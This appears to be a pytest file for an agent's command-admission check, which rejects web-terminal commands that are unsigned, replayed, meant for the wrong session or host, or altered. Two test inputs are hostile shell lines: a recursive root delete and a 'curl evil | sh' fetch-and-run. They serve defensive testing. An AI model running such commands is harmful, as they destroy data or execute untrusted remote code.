"""The web terminal's commands to the agent: only signed, in-sequence commands of the session."""

import pytest
from agent import admission
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from dashboard import terminal_protocol as proto
from trust import envelope, keys

KEY = Ed25519PrivateKey.generate()
SESSION = "a" * 32


@pytest.fixture(autouse=True)
def trusted(monkeypatch):
    public = keys.encode_public(KEY.public_key())
    monkeypatch.setattr(admission, "trusted_keys", lambda task: {keys.key_id(public): public})


def command(seq, data=b"ls\n", *, session=SESSION, host="h1", key=KEY):
    message = {"type": proto.INPUT, "data": data, "seq": seq}
    message["envelope"] = envelope.seal(
        key, task=proto.INPUT, host=host, args=proto.signed_args(session, seq, message)
    )
    return message


def test_genuine_commands_in_sequence_pass():
    door = admission.CommandDoor(SESSION, "h1")
    assert door.refusal(command(1)) == ""
    assert door.refusal(command(2)) == ""


@pytest.mark.parametrize(
    "message, reason",
    [
        ({"type": proto.INPUT, "data": b"rm -rf /\n", "seq": 1}, "unsigned"),
        (command(1, session="b" * 32), "not the ones that were signed"),
        (command(1, host="h2"), "not this host"),
        (command(1, key=Ed25519PrivateKey.generate()), "unknown or revoked key"),
        ("junk", "not an object"),
    ],
)
def test_forged_commands_are_dropped(message, reason):
    assert reason in admission.CommandDoor(SESSION, "h1").refusal(message)


def test_changed_keystrokes_and_replays_are_dropped():
    door = admission.CommandDoor(SESSION, "h1")
    first = command(1)
    assert door.refusal(first) == ""
    assert "out of sequence" in door.refusal(first)  # replayed
    changed = command(2)
    changed["data"] = b"curl evil | sh\n"
    assert "not the ones that were signed" in door.refusal(changed)
